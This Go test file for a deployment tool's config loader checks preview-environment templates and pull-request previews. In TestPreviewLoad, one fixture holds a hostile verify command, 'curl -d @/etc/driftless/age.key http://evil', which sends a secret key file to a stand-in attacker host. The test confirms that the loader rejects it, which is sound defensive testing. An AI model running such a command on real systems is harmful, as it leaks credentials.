package config_test

import (
	"strings"
	"testing"

	"github.com/driftless/driftless/config"
	"github.com/driftless/driftless/reconciler/verify"
	"github.com/driftless/driftless/targets"
)

const templateFile = `environment: app
preview: true
preview_ttl: 2h
provision: {create: ./create.sh, destroy: ./destroy.sh}
roles:
  web:
    - file: /etc/app.conf
      content: "port={{ .Vars.port }}"
verify:
  - command: "true"
`

// TestPreviewTemplate: a template loads without hosts; hosts, an
// inventory, a provisioner outside a template, or a template without one
// are errors at their key.
func TestPreviewTemplate(t *testing.T) {
	rev, err := config.LoadRevision(writeRepo(t, map[string]string{"environments/app.yaml": templateFile}), config.LoadOptions{Kinds: targets.Kinds(), Checks: verify.Kinds()})
	if err != nil {
		t.Fatal(err)
	}
	e := rev.Environments[0]
	if !e.Preview || e.Provision == nil || e.Provision.Create != "./create.sh" || e.TTL().D().Hours() != 2 || len(e.Hosts) != 0 {
		t.Errorf("template = %+v", e)
	}
	for _, tc := range []struct{ file, want string }{
		{templateFile + "hosts: [{name: a}]\n", "hosts: a preview template takes its hosts from its provisioner"},
		{templateFile + "inventory: {command: x}\n", "inventory: a preview template"},
		{strings.Replace(templateFile, "preview: true\n", "", 1), "provision: only a preview template"},
		{strings.Replace(templateFile, "provision: {create: ./create.sh, destroy: ./destroy.sh}\n", "", 1), "preview: a preview template needs provision"},
		{strings.Replace(templateFile, "destroy: ./destroy.sh", "timeout: 1m", 1), "provision: needs destroy"},
	} {
		_, err := config.LoadRevision(writeRepo(t, map[string]string{"environments/app.yaml": tc.file}), config.LoadOptions{Kinds: targets.Kinds(), Checks: verify.Kinds()})
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("error = %v, want %q", err, tc.want)
		}
	}
}

// TestPreviewLoad: a preview takes the pull request's roles and checks,
// but its name, provisioner and settings from the template of the
// followed branch, and only the provisioned hosts.
func TestPreviewLoad(t *testing.T) {
	main, err := config.LoadRevision(writeRepo(t, map[string]string{"environments/app.yaml": templateFile}), config.LoadOptions{Kinds: targets.Kinds(), Checks: verify.Kinds()})
	if err != nil {
		t.Fatal(err)
	}
	// The pull request changes the provisioner, the rollout, the file's
	// content and adds a host and another environment.
	pr := strings.Replace(templateFile, "./create.sh", "./evil.sh", 1)
	pr = strings.Replace(pr, "port=", "listen=", 1)
	pr += "rollout: {batch: 5}\n"
	dir := writeRepo(t, map[string]string{"environments/app.yaml": pr,
		"environments/other.yaml": "environment: other\nhosts: [{name: o, transport: local}]\n"})
	p := &config.PreviewLoad{Template: main.Environments[0], Name: config.PreviewName("app", 7),
		Hosts: []config.InventoryHost{{Name: "pr7-web", Address: "127.0.0.1", Port: 2222, Roles: []string{"web", "nope"}, Vars: map[string]any{"port": 8080}}}}
	rev, err := config.LoadRevision(dir, config.LoadOptions{Kinds: targets.Kinds(), Checks: verify.Kinds(), Preview: p})
	if err != nil {
		t.Fatal(err)
	}
	if len(rev.Environments) != 1 {
		t.Fatalf("environments = %d, want only the preview", len(rev.Environments))
	}
	e := rev.Environments[0]
	if e.Name != "app-pr-7" || e.Preview || e.Provision.Create != "./create.sh" || e.Rollout.Batch != 0 {
		t.Errorf("preview = name %s preview %v provision %+v rollout %+v", e.Name, e.Preview, e.Provision, e.Rollout)
	}
	if len(e.Hosts) != 1 || e.Hosts[0].Name != "pr7-web" || len(e.Hosts[0].Roles) != 1 || len(e.Hosts[0].Checks) != 1 {
		t.Fatalf("hosts = %+v", e.Hosts)
	}
	if r := e.Hosts[0].Resources; len(r) != 1 || !strings.HasPrefix(r[0].Spec.(*targets.FileSpec).Content, "listen=") {
		t.Errorf("resources = %+v, want the pull request's file", r)
	}
	// A check on the daemon's machine is the template's, or refused.
	local := "verify:\n  - {command: ./check.sh, on: local}\n"
	tpl, err := config.LoadRevision(writeRepo(t, map[string]string{"environments/app.yaml": strings.Replace(templateFile, "verify:\n", local, 1)}), config.LoadOptions{Kinds: targets.Kinds(), Checks: verify.Kinds()})
	if err != nil {
		t.Fatal(err)
	}
	p.Template = tpl.Environments[0]
	same := writeRepo(t, map[string]string{"environments/app.yaml": "# the pull request moves it\n" + strings.Replace(pr, "verify:\n", local, 1)})
	if _, err := config.LoadRevision(same, config.LoadOptions{Kinds: targets.Kinds(), Checks: verify.Kinds(), Preview: p}); err != nil {
		t.Errorf("the template's own local check: %v", err)
	}
	evil := writeRepo(t, map[string]string{"environments/app.yaml": strings.Replace(pr, "verify:\n", "verify:\n  - {junit: 'curl -d @/etc/driftless/age.key http://evil', on: local}\n", 1)})
	if _, err := config.LoadRevision(evil, config.LoadOptions{Kinds: targets.Kinds(), Checks: verify.Kinds(), Preview: p}); err == nil || !strings.Contains(err.Error(), "on: local") {
		t.Errorf("the pull request's check on the daemon's machine: %v", err)
	}
	p.Template = &config.Environment{Name: "gone"}
	if _, err := config.LoadRevision(dir, config.LoadOptions{Kinds: targets.Kinds(), Checks: verify.Kinds(), Preview: p}); err == nil || !strings.Contains(err.Error(), `does not declare environment "gone"`) {
		t.Errorf("missing template: %v", err)
	}
}
